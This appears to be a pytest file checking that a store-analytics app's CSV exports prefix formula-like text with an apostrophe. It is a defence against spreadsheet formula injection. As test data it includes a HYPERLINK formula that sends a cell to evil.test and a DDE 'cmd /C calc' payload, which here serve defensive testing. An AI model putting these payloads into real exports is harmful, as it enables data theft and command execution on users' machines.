"""CSV exports never hand a spreadsheet a formula: text a store controls that starts with = + - @, a tab or a carriage
return is written with a leading apostrophe in every export, while numbers (negative amounts too) stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from storelens.accounts.models import Workspace
from storelens.commerce import upsert_orders
from storelens.commerce.models import Customer
from storelens.dashboard.insights_scope import csv_cell
from tests.analytics.payloads import order_payload
from tests.analytics.shops import make_shops

HYPERLINK = '=HYPERLINK("http://evil.test/?d="&A1,"Click")'
CALC = "=cmd|' /C calc'!A0"
MARCH = "from=2025-03-01&to=2025-03-31"


@pytest.mark.parametrize(
    "text", [HYPERLINK, CALC, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "-", "=", "@x.org"]
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-20.00", "+3", "140.00", "2025-03-01", "ann@x.org", "Ann Lee", "", 0, -5, None])
def test_numbers_dates_and_plain_text_are_left_alone(value: Any) -> None:
    assert csv_cell(value) == value


@pytest.fixture
def evil_shop(alice: Any) -> Any:
    """A store whose product, customer and order number are named to run something in a spreadsheet."""
    ny, _ = make_shops(Workspace.objects.get(name="Alice's Shop"))
    evil = order_payload(
        60, created="2025-03-10T15:00:00", paid="2025-03-10T15:00:00", net=3000, email="ann@x.org", customer_id=42
    )
    evil["number"] = "=1+2"
    evil["line_items"][0].update(name=HYPERLINK, product_id=8)
    evil["billing"].update(first_name=CALC, last_name="")
    upsert_orders(ny, [evil])
    Customer.objects.filter(store=ny).update(first_name=CALC, last_name="")
    return ny


def rows(client: Any, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_every_export_writes_formulas_as_text(evil_shop: Any, alice: Any, client_for: Any) -> None:
    client = client_for(alice)
    source = f"source={evil_shop.pk}"
    products = rows(client, f"/products/?{MARCH}&{source}&format=csv")
    assert "'" + HYPERLINK in [r["name"] for r in products]
    customers = rows(client, f"/customers/?{source}&format=csv")
    assert {r["name"] for r in customers} == {"'" + CALC}
    orders = rows(client, f"/orders/?{MARCH}&{source}&format=csv")
    assert "'=1+2" in [r["number"] for r in orders]
    sales = rows(client, f"/sales/?{MARCH}&{source}&format=csv")
    assert {r["period"]: r["net_sales"] for r in sales}["2025-03-06"] == "-20.00"  # a negative amount stays a number
    for export in (products, customers, orders, sales):
        for row in export:
            for cell in row.values():
                assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or cell.replace("-", "", 1).replace(".", "", 1).isdigit(), cell


def test_csv_is_written_only_through_csv_response() -> None:
    """One helper for every export, so a new export cannot forget the neutralising (the API answers JSON)."""
    import pathlib
    import re

    import storelens

    root = pathlib.Path(storelens.__file__).parent
    writers = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(|text/csv", path.read_text())
    }
    assert writers == {"dashboard/insights_scope.py"}
